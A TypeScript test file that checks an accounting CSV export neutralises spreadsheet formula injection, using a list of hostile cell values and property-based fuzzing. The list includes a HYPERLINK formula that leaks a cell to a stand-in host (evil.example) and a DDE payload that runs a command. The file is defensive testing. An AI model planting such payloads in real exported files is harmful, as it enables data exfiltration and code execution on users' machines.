/** What a buyer types into a shop must not become a formula in the spreadsheet of the bookkeeper. */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { toCsv } from '../../lib/accounting/export/csv';
import { csvCell } from '../../lib/accounting/export/csv-cell';
import type { ExportEntry } from '../../lib/accounting/export/export-entry';

const HOSTILE = [
  '=HYPERLINK("https://evil.example?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  ' =1+1',
  '＝1+1',
  'Ada;=1+1',
  'Ada; =1+1;@x',
  'a|=1+1',
  '"=1+1',
];

const entry = (text: string): ExportEntry =>
  ({
    key: text,
    date: '2026-03-01',
    description: text,
    currency: 'EUR',
    lines: [
      { account: 'sales', credit: '1.00', memo: text, dimensions: { class: text } },
      { account: 'receivable', debit: '1.00', memo: text },
    ],
  }) as unknown as ExportEntry;

/** Cells as a spreadsheet cuts a line: quotes count only where a cell begins with one. */
const cellsOf = (line: string, separator: string): readonly string[] => {
  const cells: string[] = [];
  let rest = line;
  for (;;) {
    const quoted = /^"((?:[^"]|"")*)"/.exec(rest);
    const end = quoted ? quoted[0].length : (rest + separator).indexOf(separator);
    cells.push(quoted ? (quoted[1] as string).replace(/""/g, '"') : rest.slice(0, end));
    rest = rest.slice(end);
    if (rest === '') return cells;
    const next = rest.indexOf(separator);
    if (next === -1) return cells;
    rest = rest.slice(next + separator.length);
  }
};

const RUNS = /^\s*[=+\-@＝＋－＠]/;
const SEPARATORS = [',', ';', '\t', '|'];

const formulasIn = (csv: string): readonly string[] =>
  SEPARATORS.flatMap((separator) =>
    csv
      .split('\r\n')
      .flatMap((line) => cellsOf(line, separator))
      .filter((cell) => RUNS.test(cell)),
  );

test.each(HOSTILE)('%p is no formula in any cell, whatever separates the cells', (text) => {
  expect(formulasIn(toCsv([entry(text)], { accountName: () => text }))).toEqual([]);
});

test('nor is any other text', () => {
  const nasty = fc.string({
    unit: fc.constantFrom('=', '+', '-', '@', ';', '|', '\t', ' ', '"', ',', '\n', 'a', "'", '＝'),
    maxLength: 12,
  });
  fc.assert(
    fc.property(nasty, (text) => {
      expect(formulasIn(toCsv([entry(text)]))).toEqual([]);
    }),
    { numRuns: 3000 },
  );
});

test('a cell keeps its text but for the apostrophe', () => {
  expect(csvCell('plain')).toBe('plain');
  expect(csvCell('a, "b"')).toBe('"a, ""b"""');
  expect(csvCell('=1')).toBe("'=1");
  expect(csvCell('a; b')).toBe('a; b');
});

test('every file of the library that writes comma-separated values does it through this cell', () => {
  const lib = join(__dirname, '../../lib');
  const writers = readdirSync(lib, { recursive: true, encoding: 'utf8' })
    .filter((name) => name.endsWith('.ts'))
    .filter((name) =>
      /join\(','\)[\s\S]*\\r\\n|\\r\\n[\s\S]*join\(','\)/.test(readFileSync(join(lib, name), 'utf8')),
    );
  expect(writers.filter((name) => !readFileSync(join(lib, name), 'utf8').includes('csvCell'))).toEqual([]);
  expect(writers).toContain('accounting/export/csv.ts');
});
